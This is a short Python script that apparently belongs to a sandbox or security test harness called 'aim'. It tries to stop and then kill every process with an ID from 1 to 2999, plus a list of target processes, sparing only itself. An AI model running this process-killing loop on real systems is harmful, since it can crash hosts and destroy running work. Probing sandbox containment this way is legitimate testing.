import os
import signal

import aim

for pid in [*aim.TARGETS["processes"], *range(1, 3000)]:
    if pid != os.getpid():
        for number in (signal.SIGSTOP, signal.SIGKILL):
            aim.attempt(os.kill, pid, number)
